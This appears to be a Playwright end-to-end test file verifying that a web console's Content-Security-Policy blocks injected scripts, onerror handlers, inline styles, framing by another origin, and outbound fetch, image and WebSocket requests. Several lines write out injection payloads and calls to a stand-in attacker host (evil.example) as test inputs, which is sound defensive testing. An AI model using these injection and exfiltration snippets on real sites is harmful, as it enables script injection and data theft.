"""The console's Content-Security-Policy holds against what somebody might get into the page."""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import Browser, Page

from ops.local.stage import LocalStage
from tests.e2e import stack

INLINE = "document.documentElement.dataset.run = '1'"


def test_an_injected_script_handler_or_style_does_not_run(browser: Browser, local_stage: LocalStage) -> None:
    page = browser.new_context().new_page()
    page.goto(f"{local_stage.front_door}/#/sign-in")
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.evaluate(
        """code => {
          const script = document.createElement('script')
          script.textContent = code
          document.body.append(script)
          document.body.insertAdjacentHTML('beforeend', `<img src="data:,x" onerror="${code}"><p style="color: red" id="styled">x</p>`)
          const far = document.createElement('script')
          far.src = 'https://evil.example/x.js'
          document.body.append(far)
        }""",  # noqa: E501
        INLINE,
    )
    page.wait_for_timeout(500)
    assert page.evaluate("document.documentElement.dataset.run") is None
    assert page.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(255, 0, 0)"
    assert sum("Content Security Policy" in each for each in refused) >= 4
    page.context.close()


def test_what_is_typed_goes_nowhere_else(visit: Callable[..., Page], faults: list[str]) -> None:
    page = visit("#/sign-in")
    for attempt in (
        "fetch('https://evil.example/?k=1').then(() => 'sent', () => 'refused')",
        "new Promise(done => { const image = new Image(); image.onload = () => done('sent'); "
        "image.onerror = () => done('refused'); image.src = 'https://evil.example/x.png' })",
        "new Promise(done => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = () => done('sent');"
        " socket.onerror = () => done('refused') })",
    ):
        assert page.evaluate(attempt) == "refused"
    page.evaluate("code => void setTimeout(code)", INLINE)
    page.wait_for_timeout(300)
    assert page.evaluate("document.documentElement.dataset.run") is None, "text is never run"
    assert len(faults) >= 4, "each of them by the policy"
    faults.clear()


def test_no_other_page_shows_it_in_a_frame(browser: Browser, local_stage: LocalStage) -> None:
    page = browser.new_context().new_page()
    page.route(
        "http://other.localhost/**", lambda route: route.fulfill(body="<iframe></iframe>", content_type="text/html")
    )
    page.goto("http://other.localhost/")
    page.evaluate("url => { document.querySelector('iframe').src = url }", local_stage.front_door)
    page.wait_for_timeout(1500)
    assert all("Sign in" not in (frame.content()) for frame in page.frames[1:])
    page.context.close()


def test_a_redirect_to_the_stages_own_bucket_is_followed(
    visit: Callable[..., Page], local_stage: LocalStage, faults: list[str]
) -> None:
    """So a rendition above 4.4 MB is shown, whose first view is led to S3. (The answers here are the test's own.)"""
    page = visit("#/sign-in")
    bucket = f"{local_stage.endpoint_url}/filemill-local-derived/w3840.avif?X-Amz-Signature=s"
    page.route("**/f/private/large/*", lambda route: route.fulfill(status=302, headers={"Location": bucket}))
    page.route(
        f"{local_stage.endpoint_url}/**",
        lambda route: route.fulfill(body=stack.png((40, 30)), content_type="image/png"),
    )
    load = """address => new Promise(done => {
      const image = new Image()
      image.onload = () => done(image.naturalWidth)
      image.onerror = () => done('refused')
      image.src = address
    })"""
    assert page.evaluate(load, "/f/private/large/w3840.avif") == 40
    assert not faults
